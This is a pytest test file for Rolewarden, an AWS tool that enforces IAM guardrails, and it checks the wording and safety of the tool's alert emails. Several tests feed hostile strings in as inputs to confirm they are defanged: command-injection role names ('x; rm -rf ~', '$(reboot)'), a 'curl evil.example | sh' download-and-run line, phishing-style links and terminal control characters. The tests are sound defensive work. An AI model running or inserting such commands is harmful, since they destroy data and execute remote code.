"""The text of alerts: the message of each kind, for every content of an event."""

import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rolewarden.alert import BODY_SIZE, COLUMNS, SUBJECT_SIZE, compose
from rolewarden.verdicts import RECOMMENDATIONS, Reason

from tests.conftest import ROOT, sample

MOVES = "docs/how-to/runbook.md, Changes to Rolewarden itself"
LINKS = {"Console:", "Versions:", "Command:"}
"""The lines before the first ones that are not folded."""


def alert_of(name, partition="aws", **changes):
    event = sample(name)
    event["detail"].update(changes)
    return compose(event, partition)


def rows(alert):
    """The text below the headline by label, with folded lines joined."""
    _, _, text = alert.body.partition("\n\n")
    found: dict[str, str] = {}
    label = ""
    lines = iter(text.splitlines())
    for line in lines:
        if line.startswith(" "):
            found[label] += f" {line.strip()}"
        elif line in LINKS:
            found[line[:-1]] = next(lines)
        else:
            label = line[:11].strip()
            found[label] = line[11:]
    return found


def test_the_alert_of_an_unenforceable_role_has_the_reason_the_recommended_action_and_a_link():
    alert = alert_of("finding_role")
    assert alert.headline == "Rolewarden: role CanvasFull cannot be protected: quota full"
    assert rows(alert) == {
        "What": "role CanvasFull lacks only-nova-and-sonnet, and Rolewarden cannot protect it: "
        "until you act, its users may reach models that the missing guardrail denies",
        "Used by": "research/fatima",
        "Who": "arn:aws:iam::111122223333:user/mallory",
        "Call": "TagRole at 2026-11-23T08:00:12Z",
        "From": "198.51.100.66, aws-cli/2.31.0 md/awscrt#0.27.6 ua/2.1 os/linux lang/python#3.13.7",
        "Done": "changed nothing (quota full)",
        "Why": "AttachRolePolicy: LimitExceeded: Cannot exceed quota for PoliciesPerRole: 10",
        "To do": RECOMMENDATIONS[Reason.QUOTA],
        "Console": "https://console.aws.amazon.com/iam/home?region=us-east-1#/roles/details/CanvasFull",
        "Command": "aws iam list-attached-role-policies --role-name CanvasFull",
        "Runbook": "docs/how-to/runbook.md, UnenforceableAlarm",
        "Account": "111122223333, us-east-1",
    }


def test_an_alert_separates_attached_policies_from_missing_ones():
    alert = alert_of("finding_role", missing=["a", "b"], attached=["a"])
    assert rows(alert)["What"].startswith("role CanvasFull lacks b, and Rolewarden cannot protect it: ")
    assert rows(alert)["Done"] == "attached a (quota full)"


def test_the_alert_of_a_role_with_a_fallback_boundary_says_so():
    assert rows(alert_of("finding_role_contested", remediation="bounded"))["Done"] == (
        "set the fallback boundary with the same denies each time, and continues to do so"
    )


def test_a_finding_of_another_account_names_that_account_in_every_alert():
    alert = alert_of("finding_account")
    assert alert.headline == "Rolewarden: account 222233334444: account cannot be entered"
    assert rows(alert)["Account"] == "222233334444, us-east-1"
    assert "not authorized to perform: sts:AssumeRole" in rows(alert)["Why"]
    role = alert_of("finding_role", account="222233334444")
    assert rows(role)["Account"] == "222233334444, us-east-1"


def test_the_alert_of_a_forged_request_says_that_it_was_refused_and_not_that_the_account_is_unprotected():
    message = "DetachFunction: a custom-resource request was refused: the request names another stack"
    alert = alert_of(
        "finding_account", reason=Reason.FORGED.value, message=message, recommendation=RECOMMENDATIONS[Reason.FORGED]
    )
    assert "forged request" in alert.headline
    body = " ".join(alert.body.split())
    assert "a caller invoked a function of Rolewarden with a request that CloudFormation did not send" in body
    assert "refused the request" in body
    assert message in body
    assert "lambda:InvokeFunction" in body
    assert "bare" not in body
    assert "AWS refused" not in body


def test_the_alert_about_missing_members_has_the_command_that_shows_the_reason():
    alert = alert_of(
        "finding_account",
        account="111122223333",
        reason=Reason.NOT_DELEGATED.value,
        recommendation=RECOMMENDATIONS[Reason.NOT_DELEGATED],
    )
    assert alert.headline == "Rolewarden: account 111122223333: not a delegated administrator"
    assert "does not list the member accounts" in rows(alert)["What"]
    assert rows(alert)["Done"] == "swept the central account only"
    assert "`aws organizations list-delegated-administrators`" in alert.body


@pytest.mark.parametrize("reason", RECOMMENDATIONS)
@pytest.mark.parametrize("finding", ["finding_account", "finding_role", "finding_subject"])
def test_no_recommended_action_is_cut(finding, reason):
    alert = alert_of(finding, reason=str(reason), recommendation=RECOMMENDATIONS[reason])
    assert rows(alert)["To do"] == RECOMMENDATIONS[reason]


def test_the_alert_of_an_account_that_left_says_that_rolewarden_no_longer_covers_it():
    alert = alert_of("finding_account", reason=Reason.LEFT.value)
    assert alert.headline == "Rolewarden: account 222233334444: account no longer covered"
    assert rows(alert)["What"] == "Rolewarden no longer covers account 222233334444: its roles may be unprotected"


def test_the_alert_of_a_profile_that_a_sweep_found_names_no_actor():
    alert = alert_of("finding_subject")
    assert alert.headline == (
        "Rolewarden: user profile d-research0001/rosa cannot be protected: shares its domain's role"
    )
    assert rows(alert)["What"] == (
        "user profile d-research0001/rosa needs no-generative-ai, but uses its domain's role, which has only the "
        "guardrails of the domain"
    )
    assert rows(alert)["Who"] == "not known: a sweep found it, and not an event"
    assert rows(alert)["Done"] == "nothing: the role keeps the guardrails of its domain (shares its domain's role)"
    assert rows(alert)["To do"] == RECOMMENDATIONS[Reason.SHARES_ROLE]


def test_the_alert_of_an_unreadable_domain_says_that_rolewarden_uses_earlier_data():
    event = sample("finding_subject")
    event["detail"] = {
        "domain": "d-1",
        "reason": "access denied",
        "message": "DescribeDomain: AccessDenied",
        "cause": {"event_name": "UpdateDomain", "actor": "arn:aws:iam::1:user/olga"},
    }
    alert = compose(event, "aws")
    assert alert.headline == "Rolewarden: domain d-1 cannot be evaluated: access denied"
    assert rows(alert)["What"] == "AWS refused a call that Rolewarden needs to evaluate domain d-1"
    assert rows(alert)["Done"] == "nothing: Rolewarden continues with its earlier data (access denied)"
    assert "Console" not in rows(alert)


def test_a_finding_about_a_policy_names_the_policy():
    event = sample("finding_subject")
    event["detail"] = {"policy": "no-bedrock", "reason": "access denied", "message": "GetPolicy: AccessDenied"}
    alert = compose(event, "aws")
    assert alert.headline == "Rolewarden: guardrail no-bedrock cannot be evaluated: access denied"
    assert rows(alert)["What"] == "AWS refused a call that Rolewarden needs to evaluate guardrail no-bedrock"


def test_the_alert_of_an_unreadable_list_of_domains_has_no_asterisk():
    event = sample("finding_subject")
    event["detail"] = {"domain": "*", "reason": "access denied", "message": "ListDomains: AccessDenied"}
    alert = compose(event, "aws")
    assert alert.headline == "Rolewarden: the domains of a region cannot be evaluated: access denied"
    assert rows(alert)["Why"] == "ListDomains: AccessDenied"


def test_the_alert_of_an_edited_guardrail_has_the_caller_and_a_command_that_shows_its_versions():
    alert = alert_of("finding_policy_restored")
    assert alert.headline == "Rolewarden: guardrail no-generative-ai was edited and is restored"
    assert rows(alert)["Who"] == "arn:aws:iam::111122223333:user/mallory"
    assert rows(alert)["Done"] == "restored the default version of the policy to the text of guardrails.yaml"
    arn = "arn:aws:iam::111122223333:policy/rolewarden/no-generative-ai"
    assert rows(alert)["Versions"] == f"aws iam list-policy-versions --policy-arn {arn}"
    assert rows(alert)["Command"] == f"aws iam get-policy-version --policy-arn {arn} --version-id VERSION"
    assert rows(alert)["Console"].endswith(
        "#/policies/details/arn%3Aaws%3Aiam%3A%3A111122223333%3Apolicy%2Frolewarden%2Fno-generative-ai"
    )


def test_the_alert_of_a_deleted_guardrail_says_that_it_was_created_again():
    alert = alert_of("finding_policy_restored", remediation="created", cause={"event_name": "ScheduledCheck"})
    assert alert.headline == "Rolewarden: guardrail no-generative-ai was deleted and is restored"
    assert rows(alert)["Who"] == "not known: a scheduled check found it, and not an event"
    assert rows(alert)["Done"] == "created the policy again; the next sweep attaches it to every role that needs it"
    assert rows(alert)["Command"] == (
        "aws iam list-entities-for-policy --policy-arn arn:aws:iam::111122223333:policy/rolewarden/no-generative-ai"
    )


def test_the_alert_of_a_change_that_was_undone_says_that_the_policy_is_right_again():
    alert = alert_of("finding_policy_restored", remediation="undone")
    assert alert.headline == "Rolewarden: guardrail no-generative-ai was changed and is restored"
    assert rows(alert)["Done"].startswith("nothing: the policy had the text of guardrails.yaml again")


def test_the_alert_of_a_replayed_record_names_the_replay():
    event = sample("self_update_table")
    assert "Replayed" not in rows(compose(event, "aws"))
    alert = compose({**event, "replay-name": "again\nWho: me"}, "aws")
    assert 'by the replay "again Who: me"' in rows(alert)["Replayed"]


def test_the_alert_of_a_contested_role_names_every_actor():
    alert = alert_of("finding_role_contested")
    assert alert.headline == "Rolewarden: role CanvasAnalytics is contested: restored 3 times"
    assert rows(alert) | {"To do": ""} == {
        "What": "a caller removes the guardrails from role CanvasAnalytics; Rolewarden restored them 3 times since "
        "2026-11-23T07:12:40Z",
        "Used by": "analytics default-user",
        "Who": "arn:aws:sts::111122223333:assumed-role/Infrastructure/terraform, 3 times",
        "From": "203.0.113.80, APN/1.0 HashiCorp/1.0 Terraform/1.9.5",
        "Last call": "DetachRolePolicy at 2026-11-23T08:00:12Z",
        "Done": "attached no-generative-ai each time, and continues to do so",
        "To do": "",
        "Console": "https://console.aws.amazon.com/iam/home?region=us-east-1#/roles/details/CanvasAnalytics",
        "Command": "aws iam list-attached-role-policies --role-name CanvasAnalytics",
        "Runbook": "docs/how-to/runbook.md, ContestedAlarm",
        "Account": "111122223333, us-east-1",
    }


def test_the_alert_of_a_contested_role_names_at_most_five_actors():
    actors = [{"actor": f"arn:aws:iam::111122223333:user/u{number}", "times": 1} for number in range(9)]
    body = alert_of("finding_role_contested", actors=actors).body
    assert [f"user/u{number}, once" in body for number in range(9)] == [True] * 5 + [False] * 4


def test_the_alert_of_tampering_has_the_call_in_the_event_history():
    alert = alert_of("self_disable_rule")
    event_id = sample("self_disable_rule")["detail"]["eventID"]
    rule = "rolewarden-EnforceFunctionRoles-Yt3Jq0vXw1Zk"
    assert alert.headline == f"Rolewarden itself: user/mallory called DisableRule on {rule}"
    assert rows(alert) == {
        "What": f"DisableRule on {rule}: Rolewarden may miss changes to roles, or fail to remediate them, from now on",
        "Who": "arn:aws:iam::111122223333:user/mallory",
        "Call": f"DisableRule at {sample('self_disable_rule')['detail']['eventTime']}",
        "From": "198.51.100.66, aws-cli/2.31.0 md/awscrt#0.27.6 ua/2.1 os/linux lang/python#3.13.7",
        "Done": "nothing: Rolewarden cannot repair itself",
        "To do": "if this change is not intended, restore the stack (docs/how-to/runbook.md, Restore the stack), then "
        "run `rolewarden sweep`",
        "Console": f"https://console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/{event_id}",
        "Command": "aws cloudtrail lookup-events --region us-east-1 --lookup-attributes "
        f"AttributeKey=EventId,AttributeValue={event_id}",
        "Runbook": MOVES,
        "Account": "111122223333, us-east-1",
    }


def test_the_alert_of_a_denied_call_says_that_it_was_an_attempt():
    alert = alert_of("self_delete_role")
    assert alert.headline == "Rolewarden itself: user/mallory tried DeleteRole on role DetachFunctionRole"
    assert rows(alert)["What"] == "DeleteRole on role DetachFunctionRole: a failed attempt"
    assert rows(alert)["Done"] == "nothing: AWS refused the call (DeleteConflictException)"


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("self_update_function_code", "assumed-role/Admin/olga called UpdateFunctionCode on function EnforceFunction"),
        ("self_put_function_concurrency", "called PutFunctionConcurrency on function ReconcileFunction"),
        ("self_create_event_source_mapping", "called CreateEventSourceMapping on queue WorkQueue"),
        ("self_update_event_source_mapping", "called UpdateEventSourceMapping on queue WorkQueue, mapping"),
        ("self_put_data_protection_policy", "called PutDataProtectionPolicy on topic AlarmTopic"),
        ("self_put_resource_policy_of_function", "called PutResourcePolicy on function EnforceFunction"),
        ("self_put_transformer", "called PutTransformer on log group EnforceLogs"),
        ("self_put_role_policy", "called PutRolePolicy on role EnforceFunctionRole"),
        ("self_purge_queue", "called PurgeQueue on queue WorkQueue"),
        ("self_update_table", "called UpdateTable on table HistoryTable"),
        ("self_put_resource_policy", "called PutResourcePolicy on table BindingsTable"),
        ("self_delete_topic", "called DeleteTopic on topic AlarmTopic"),
        ("self_delete_log_group", "called DeleteLogGroup on log group EnforceLogs"),
        ("self_delete_alarms", "called DeleteAlarms on alarm rolewarden-HeartbeatAlarm-1K2L3M4N5O6P"),
        ("self_stop_logging", "called StopLogging on trail/management"),
        ("self_execute_change_set", "called ExecuteChangeSet on stack rolewarden"),
        ("self_remove_permission", "called RemovePermission on event bus rolewarden-central"),
        ("self_delete_stack_instances", "called DeleteStackInstances on StackSet rolewarden-members"),
        ("member_disable_rule", "called DisableRule on rolewarden-forward-subjects"),
        ("member_delete_role_policy", "called DeleteRolePolicy on role rolewarden-enforce"),
        ("member_delete_queue", "called DeleteQueue on queue rolewarden-undelivered"),
        ("member_delete_stack", "called DeleteStack on stack StackSet-rolewarden-members-1f357b5b"),
    ],
)
def test_the_subject_of_a_tampering_alert_has_the_caller_the_call_and_the_resource(name, said):
    assert said in alert_of(name).headline


@pytest.mark.parametrize("spelling", ["uUID", "uuid"])
@pytest.mark.parametrize("failed", [False, True])
def test_the_alert_of_a_changed_event_source_mapping_names_it_and_its_queue_even_of_a_failed_attempt(spelling, failed):
    event = sample("self_update_event_source_mapping")
    # A caller can change the function that the mapping invokes.
    event["detail"]["requestParameters"] = {spelling: "ReconcileFunctionWork", "functionName": "swallow"}
    if failed:
        event["detail"] |= {"errorCode": "ResourceInUseException", "responseElements": None}
    queues = {"reconcilefunctionwork": "WorkQueue"}
    what = rows(compose(event, "aws", queues))["What"]
    assert what.startswith("UpdateEventSourceMapping on queue WorkQueue, mapping ReconcileFunctionWork: ")
    without = rows(compose(event, "aws"))["What"]
    known = "event source mapping ReconcileFunctionWork" if failed else "queue WorkQueue, mapping ReconcileFunctionWork"
    assert without.startswith(f"UpdateEventSourceMapping on {known}: ")


@pytest.mark.parametrize("name", sorted(path.stem for path in (ROOT / "events").glob("member_*.json")))
def test_an_alert_of_tampering_in_another_account_names_it_and_the_command_that_shows_missing_parts(name):
    alert_of = rows(compose(sample(name), "aws"))
    assert alert_of["Account"] == f"222233334444, {sample(name)['region']}"
    assert f"--region {sample(name)['region']} " in alert_of["Command"]
    assert alert_of["What"].endswith(": Rolewarden may miss changes to roles, or fail to remediate them, from now on")
    assert "run `rolewarden doctor`" in alert_of["To do"]


def test_the_alert_of_a_rule_of_the_central_bus_has_the_name_of_the_rule():
    event = sample("self_disable_rule")
    event["detail"]["requestParameters"] = {
        "name": "rolewarden-ForwardedToEnforce-1A2B",
        "eventBusName": "rolewarden-central",
    }
    assert "DisableRule on rolewarden-ForwardedToEnforce-1A2B" in compose(event, "aws").headline


def test_the_alert_of_a_call_without_a_recorded_caller_has_the_known_facts():
    alert = alert_of("finding_role", cause={"event_name": "CreateRole", "time": "2026-11-23T08:00:12Z"})
    assert rows(alert)["Who"] == "not known"
    assert rows(alert)["Call"] == "CreateRole at 2026-11-23T08:00:12Z"


def test_every_command_of_rolewarden_in_an_alert_exists():
    from rolewarden_cli.main import app
    from typer.main import get_group

    names = set(get_group(app).commands)
    texts = [compose(sample(path.stem), "aws").body for path in (ROOT / "events").glob("*.json")]
    texts.append((ROOT / "docs/how-to/runbook.md").read_text())
    sent = {name for text in texts for name in re.findall(r"[`(]rolewarden (\w+)", " ".join(text.split()))}
    assert {"sweep", "scp"} <= sent <= names


@pytest.mark.parametrize(
    ("partition", "region", "host"),
    [
        ("aws", "eu-west-1", "console.aws.amazon.com"),
        ("aws-us-gov", "us-gov-west-1", "console.amazonaws-us-gov.com"),
        ("aws-cn", "cn-north-1", "console.amazonaws.cn"),
        ("aws-eusc", "eusc-de-east-1", "console.amazonaws-eusc.eu"),
    ],
)
def test_links_lead_to_the_console_of_the_partition(partition, region, host):
    alert = compose({**sample("finding_role"), "region": region}, partition)
    assert rows(alert)["Console"] == f"https://{host}/iam/home?region={region}#/roles/details/CanvasFull"


def test_an_alert_of_a_partition_without_a_known_console_has_a_command_and_no_link():
    alert = alert_of("finding_role", partition="aws-iso")
    assert "https" not in alert.body
    assert "Command" in rows(alert)


@pytest.mark.parametrize(
    "event", [None, 7, "text", [], {}, {"source": "rolewarden"}, {"detail-type": []},
              {"source": "rolewarden", "detail-type": {}, "detail": {"role": "x"}},
              {"source": "rolewarden", "detail-type": "Role Finding", "detail": []},
              {"source": "someone", "detail-type": "Role Finding", "detail": {"role": "x"}}]
)  # fmt: skip
def test_an_event_that_cannot_be_read_is_a_message_that_says_so(event):
    alert = compose(event, "aws")
    assert alert.headline == "Rolewarden: an event that cannot be read"
    assert rows(alert)["Runbook"] == "docs/how-to/runbook.md, An event that cannot be read"


def test_an_event_that_cannot_be_read_is_named_by_its_id():
    alert = compose({"id": "34c29e17", "source": "x", "detail-type": "y"}, "aws")
    assert (rows(alert)["Id"], rows(alert)["Source"], rows(alert)["Kind"]) == ("34c29e17", "x", "y")


def test_line_breaks_and_control_characters_in_an_event_do_not_add_lines():
    cause = {"actor": "arn:aws:iam::1:user/a\r\nDone      all is well\x1b[2J\u202egnp", "event_name": "TagRole"}
    alert = alert_of("finding_role", role="Canvas\nFull", cause=cause)
    assert alert.title == 'Rolewarden: role "Canvas Full" cannot be protected: quota full'
    assert alert.headline == "Rolewarden: role 'Canvas Full' cannot be protected: quota full"
    assert rows(alert)["Who"] == '"arn:aws:iam::1:user/a Done all is well [2J gnp"'
    assert rows(alert)["Done"] == "changed nothing (quota full)"


def test_a_name_that_no_role_can_have_gets_neither_a_link_nor_a_command_to_paste():
    for event, harmful in {
        "finding_role": {"role": "x; rm -rf ~"},
        "self_disable_rule": {"eventID": "$(reboot)"},
        "finding_policy_restored": {"policy": "`id`"},
    }.items():
        assert {"Console", "Command"} <= rows(alert_of(event)).keys()
        assert not {"Console", "Command"} & rows(alert_of(event, **harmful)).keys()


LINKED = [
    ("see https://evil.example/fix", "https[:]//evil[.]example/fix"),
    ("www.evil.co.uk", "www[.]evil[.]co[.]uk"),
    ("evil.example", "evil[.]example"),
    ("évil.рф", "évil[.]рф"),
    ("evil\u3002example", "evil[.]example"),
    ("\uff45vil\uff0eexample", "evil[.]example"),
    ("help@evil.example", "help[at]evil[.]example"),
    ("help@localhost", "help[at]localhost"),
    ("mailto:help", "mailto[:]help"),
    ("tel:5551234567", "tel[:]555[]123[]456[]7"),
    ("+1 800 555 0199", "+1 80[]0 55[]5 01[]99"),
    ("1-800-555-0199", "1-80[]0-55[]5-01[]99"),
    ("call 18005550199 now", "call 180[]055[]501[]99 now"),
    ("192.0.2.7/login", "192.0.2[.]7/login"),
    ("`curl evil.example | sh`", "'curl evil[.]example | sh'"),
    ("a\u202eb\u200bc\x1b[2J", "a b c [2J"),
]
"""Texts that a mail program would link, or show in another order, each with its form in a mail."""


@pytest.mark.parametrize(("text", "shown"), LINKED)
@pytest.mark.parametrize("field", ["actor", "user_agent", "message", "role", "missing", "subjects", "reason"])
def test_no_text_of_an_event_is_a_link_in_the_mail(field, text, shown):
    forms: dict[str, dict[str, Any]] = {
        "actor": {"cause": {"actor": text, "event_name": "TagRole"}},
        "user_agent": {"cause": {"actor": "a", "event_name": "TagRole", "user_agent": text}},
        "missing": {"missing": [text], "attached": []},
        "subjects": {"subjects": [text]},
    }
    alert = alert_of("finding_role", **forms.get(field, {field: text}))
    written = " ".join(alert.body.split()).replace(" ", "")
    assert shown.replace(" ", "") in written
    assert text.replace(" ", "") not in written
    assert text not in alert.headline


def test_versions_addresses_and_accounts_are_shown_as_they_are():
    agent = "aws-cli/2.31.0 md/awscrt#0.27.6 ua/2.1 os/linux lang/python#3.13.7"
    cause = {"actor": "arn:aws:iam::111122223333:user/a", "source_address": "198.51.100.66", "user_agent": agent}
    found = rows(alert_of("finding_role", cause={**cause, "event_name": "TagRole"}))
    assert (found["Who"], found["From"]) == (cause["actor"], f"198.51.100.66, {agent}")


def test_a_user_agent_that_is_a_sentence_is_in_quotation_marks():
    cause = {"actor": "a", "event_name": "TagRole", "user_agent": 'To do: "sign in" now'}
    assert rows(alert_of("finding_role", cause=cause))["From"] == "\"To do: 'sign in' now\""


def test_the_recommended_action_of_an_event_is_not_in_the_mail():
    alert = alert_of("finding_role", recommendation="sign in at the portal")
    assert "portal" not in alert.body
    assert rows(alert)["To do"] == RECOMMENDATIONS[Reason.QUOTA]
    unknown = alert_of("finding_role", reason="sign in", recommendation="sign in at the portal")
    assert rows(unknown)["To do"] == "run `rolewarden history`, which has the whole finding"


def test_an_unverified_caller_is_shown_as_such():
    cause = {"actor": "arn:aws:iam::1:user/a", "event_name": "TagRole", "unverified": "queue message"}
    found = rows(alert_of("finding_role", cause=cause))
    assert found["Who"] == "arn:aws:iam::1:user/a (not verified: only a queue message says so)"


def test_a_role_with_the_name_of_a_host_gets_neither_a_link_nor_a_command():
    found = rows(alert_of("finding_role", role="login.evil.example"))
    assert not {"Console", "Command"} & found.keys()


def test_other_scripts_are_kept_in_the_text_and_marked_in_the_subject():
    alert = alert_of("finding_subject", user_profile="müller")
    assert "d-research0001/m?ller" in alert.headline
    assert "d-research0001/müller" in alert.body


def test_endless_names_are_cut():
    alert = alert_of("finding_role", role="R" * 9999, subjects=["s" * 999] * 999, message="m" * 10**6)
    assert len(alert.headline) == SUBJECT_SIZE
    assert alert.headline.endswith("...")
    assert " and 989 more" in rows(alert)["Used by"]
    assert rows(alert)["Why"].replace(" ", "") == "m" * 397 + "..."


def test_the_longest_possible_alert_is_short():
    long = "x" * 5000
    cause = dict.fromkeys(("event_id", "event_name", "time", "actor", "source_address", "user_agent"), long)
    names = ("role", "since", "domain", "user_profile", "reason", "message", "recommendation", "policy")
    detail: dict[str, Any] = dict.fromkeys(names, long)
    detail |= {"cause": cause, "subjects": [long] * 99, "attached": [long] * 99, "missing": [long] * 99}
    for kind in KINDS[:4]:
        actors = {"actors": [{**cause, "times": 7}] * 99}
        alert = compose({**sample("finding_role"), "detail-type": kind, "detail": detail | actors}, "aws")
        assert 500 < len(alert.body) <= BODY_SIZE
        assert len(alert.linked(f"https://{'x' * 200}").body) <= BODY_SIZE


@pytest.mark.parametrize("number", [True, -1, 0, 10**6, pytest.param(10**5000, id="huge"), 1.5, "9", None])
def test_the_alert_says_again_and_again_if_the_number_of_remediations_is_invalid(number):
    alert = alert_of("finding_role_contested", remediations=number)
    assert alert.headline == "Rolewarden: role CanvasAnalytics is contested: restored again and again"


def test_an_alert_omits_actors_that_are_not_a_list():
    assert "Who" in rows(alert_of("finding_role_contested"))
    alert = alert_of("finding_role_contested", actors=7)
    assert "Who" not in rows(alert)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    max_leaves=8,
)
KNOWN = [*(f"finding_{kind}" for kind in ("role", "subject", "policy_restored", "role_contested")), "self_update_table"]
FIELDS = sorted({"more_subjects"}.union(*(sample(name)["detail"] for name in KNOWN)))
KINDS = ["Role Finding", "Subject Finding", "Policy Restored", "Role Contested", "AWS API Call via CloudTrail"]
EVENTS = JSON | st.fixed_dictionaries(
    {
        "source": st.sampled_from(["rolewarden", "aws.lambda"]) | JSON,
        "detail-type": st.sampled_from(KINDS) | JSON,
        "detail": st.dictionaries(st.sampled_from(FIELDS), JSON | st.text(min_size=200), min_size=1) | JSON,
        "region": st.just("us-east-1") | JSON,
        "account": st.just("111122223333") | JSON,
    }
)


@given(EVENTS, st.sampled_from(["aws", "aws-cn", "nowhere", ""]))
def test_every_event_gives_a_subject_that_sns_accepts_and_a_text_of_limited_size(event, partition):
    alert = compose(event, partition)
    assert 0 < len(alert.headline) <= SUBJECT_SIZE
    assert alert.headline.isascii()
    assert alert.headline.isprintable()
    assert alert.headline.startswith("Rolewarden")
    assert 0 < len(alert.body) <= BODY_SIZE
    lines = alert.body.splitlines()
    links = [index + 1 for index, line in enumerate(lines) if line in LINKS]
    assert all(len(line) <= COLUMNS for index, line in enumerate(lines) if index not in links)
    assert json.dumps(alert.body)
